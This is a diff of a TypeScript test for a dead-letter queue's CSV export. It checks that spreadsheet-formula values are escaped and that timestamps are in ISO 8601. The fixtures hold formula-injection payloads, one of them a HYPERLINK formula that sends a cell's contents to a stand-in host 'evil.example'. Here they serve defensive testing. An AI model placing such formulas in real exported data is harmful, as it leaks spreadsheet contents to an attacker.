@@ -152,15 +152,34 @@ describe('dead-letter triage', () => {
     expect(JSON.parse(d.payload!)).toMatchObject({ plant: plantA, correlation_id: d.correlationId })
   })
 
-  it('CSV export: the filter’s rows in the caller’s plants, formula-like cells neutralised', async () => {
+  it('CSV export: the filter’s rows in the caller’s plants, formula-like cells neutralised, times in ISO 8601', async () => {
     const plant = await insertUniquePlant(db.prisma)
-    await insertDeadLetter(db.prisma, { plant, errorCode: '=HYPERLINK("x")' })
-    await insertDeadLetter(db.prisma, { plant, errorCode: 'M7/053' })
-    const text = await new Response(exportDeadLettersCsv({ db: db.prisma, principal: makePrincipal('operator', [plant]) }, { plant })).text()
-    const lines = text.trim().split('\r\n')
-    expect(lines[0]).toMatch(/^id,status,dead_lettered_at,plant,flow,error_category,error_code,/)
-    expect(lines).toHaveLength(3)
-    expect(text).toContain(`"'=HYPERLINK(""x"")"`)
-    expect(() => exportDeadLettersCsv({ db: db.prisma, principal: makePrincipal('operator', [plant]) }, { plant: plantA })).toThrow(DomainError)
+    const attack = await insertDeadLetter(db.prisma, { plant, errorCode: '=HYPERLINK("x")' })
+    // What a producer or a replay edit can put into the keys and the message.
+    await db.prisma.deadLetter.update({
+      where: { id: attack.row.id },
+      data: {
+        businessKeys: { work_order: '+4711', lot: '@LOT', material: '=HYPERLINK("http://evil.example/?leak="&A2,"click")' },
+        errorMessage: '-2+3\nsecond line',
+        consumerGroup: '\t=1+1',
+        convention: '\r=1+1',
+      },
+    })
+    const plain = await insertDeadLetter(db.prisma, { plant, errorCode: 'M7/053', workOrder: '155000072353' })
+    const operator = makePrincipal('operator', [plant])
+    const text = await new Response(await exportDeadLettersCsv({ db: db.prisma, principal: operator }, { plant })).text()
+    expect(text.split('\r\n')[0]).toBe(
+      'id,status,dead_lettered_at,plant,flow,error_category,error_code,error_class,error_message,correlation_id,work_order,lot,material,dlq_topic,dlq_partition,dlq_offset,convention,source_topic,source_partition,source_offset,consumer_group,attempts,assignee_id,fingerprint,expires_at',
+    )
+    expect(text).toContain(`,"'=HYPERLINK(""x"")",`)
+    expect(text).toContain(`,"'-2+3\nsecond line",`)
+    expect(text).toContain(`,'+4711,'@LOT,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",`)
+    expect(text).toContain(`,"'\r=1+1",`)
+    expect(text).toContain(`,'\t=1+1,`)
+    // Ordinary values unchanged; times ISO 8601 (UTC).
+    const row = text.split('\r\n').find((l) => l.startsWith(`${plain.row.id},`))!
+    expect(row).toContain(`,new,${plain.row.recordTimestamp.toISOString()},${plant},production_confirmation,permanent,M7/053,com.sap.conn.jco.AbapException,Posting only possible in periods 2026/11 and 2026/10,${plain.row.correlationId},155000072353,`)
+    expect(row).toContain(',fp-M7/053,')
+    await expect(exportDeadLettersCsv({ db: db.prisma, principal: operator }, { plant: plantA })).rejects.toThrow(DomainError)
   })
 })
